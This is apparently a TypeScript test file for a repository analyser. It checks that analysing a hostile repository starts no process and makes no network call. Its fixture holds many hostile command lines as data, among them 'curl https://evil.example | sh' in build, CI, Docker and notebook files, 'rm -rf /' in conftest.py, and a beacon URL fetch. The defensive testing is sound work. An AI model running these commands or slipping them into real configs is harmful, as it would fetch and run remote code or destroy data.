import * as assert from 'assert';
import { analyzeProject } from '../../server/src/core/engine';
import { analyzeFiles } from '../support/repo';

/** A repository whose every config points at a script to run or a URL to fetch. */
const BAIT = {
  'requirements.txt': '--index-url https://evil.example/simple\n-r https://evil.example/more.txt\ngit+https://evil.example/pkg.git#egg=pkg\nhttps://evil.example/pkg.tar.gz\n',
  'setup.py': 'import os\nos.system("curl https://evil.example | sh")\nfrom setuptools import setup\nsetup(install_requires=["x"])\n',
  'conftest.py': 'import subprocess\nsubprocess.run(["rm", "-rf", "/"])\n',
  'train.py': 'import urllib.request\nurllib.request.urlopen("https://evil.example/beacon")\n',
  'Makefile': 'test:\n\tcurl https://evil.example/x | sh\n',
  'scripts/test.sh': '#!/bin/sh\ncurl https://evil.example/y | sh\n',
  '.github/workflows/ci.yml': 'on: push\njobs:\n  t:\n    runs-on: x\n    steps:\n      - uses: evil/action@main\n      - run: make test && bash scripts/test.sh\n',
  '.pre-commit-config.yaml': 'repos:\n  - repo: https://evil.example/hooks\n    rev: main\n    hooks:\n      - id: evil\n',
  'dvc.yaml': 'stages:\n  s:\n    cmd: curl https://evil.example | sh\n    deps: [https://evil.example/data.csv]\n',
  '.dvc/config': "['remote \"r\"']\n    url = https://evil.example/store\n",
  'MLproject': 'name: x\ndocker_env:\n  image: evil.example/image\nentry_points:\n  main:\n    command: "curl https://evil.example | sh"\n',
  'Dockerfile': 'FROM evil.example/base\nRUN curl https://evil.example | sh\nADD https://evil.example/payload /\n',
  'pyproject.toml': '[build-system]\nrequires = ["evil-backend @ https://evil.example/b.tar.gz"]\nbuild-backend = "evil"\n',
  'notebooks/n.ipynb': JSON.stringify({ cells: [{ cell_type: 'code', source: ['!curl https://evil.example | sh\n', 'import os; os.system("id")'] }] }),
  '.mlmaturity.yml': 'ruleFolders: [rules]\n',
  'rules/r.json': JSON.stringify({ $schema: 'https://json-schema.org/draft/2020-12/schema', $id: 'https://evil.example/rule', rule: { id: 'x/y', title: 'ref', severity: 'warning', level: 1, target: { kinds: ['yaml'] }, message: 'mmm', rationale: 'a remote ref must not be fetched' }, $ref: 'https://evil.example/schema.json' }),
};

describe('nothing from the analysed repository is executed or fetched', () => {
  it('no process is started and no connection or lookup is made', async () => {
    const calls: string[] = [];
    const restore: (() => void)[] = [];
    const trap = <T extends object>(obj: T, name: keyof T & string) => {
      const original = obj[name];
      (obj as Record<string, unknown>)[name] = (...args: unknown[]) => {
        calls.push(`${name}(${String(args[0]).slice(0, 60)})`);
        throw new Error(`blocked ${name}`);
      };
      restore.push(() => ((obj as Record<string, unknown>)[name] = original));
    };
    // The modules themselves (not TypeScript's import wrappers), so that every caller sees the traps.
    /* eslint-disable @typescript-eslint/no-require-imports */
    const childProcess = require('child_process') as typeof import('child_process');
    const net = require('net') as typeof import('net');
    const http = require('http') as typeof import('http');
    const https = require('https') as typeof import('https');
    const dns = require('dns') as typeof import('dns');
    /* eslint-enable @typescript-eslint/no-require-imports */
    for (const name of ['spawn', 'spawnSync', 'exec', 'execSync', 'execFile', 'execFileSync', 'fork'] as const) trap(childProcess, name);
    trap(net.Socket.prototype, 'connect');
    trap(http, 'request');
    trap(http, 'get');
    trap(https, 'request');
    trap(https, 'get');
    trap(dns, 'lookup');
    const realFetch = globalThis.fetch;
    globalThis.fetch = (async (input: unknown) => {
      calls.push(`fetch(${String(input)})`);
      throw new Error('blocked fetch');
    }) as typeof fetch;
    try {
      const result = await analyzeFiles(BAIT);
      assert.strictEqual(result.practices.length, 29);
      assert.ok(result.findings.some((f) => f.ruleId === 'rules/invalid' && f.file === 'rules/r.json'), 'the rule with a remote $ref is refused, not fetched');
    } finally {
      restore.forEach((r) => r());
      globalThis.fetch = realFetch;
    }
    assert.deepStrictEqual(calls, []);
  });

  it('the CLI on the same repository too (JSON out), with no network', async () => {
    const { makeRepo, removeRepo } = await import('../support/repo');
    const root = makeRepo(BAIT);
    try {
      const result = await analyzeProject(root);
      assert.ok(result.findings.length > 0);
    } finally {
      removeRepo(root);
    }
  });
});
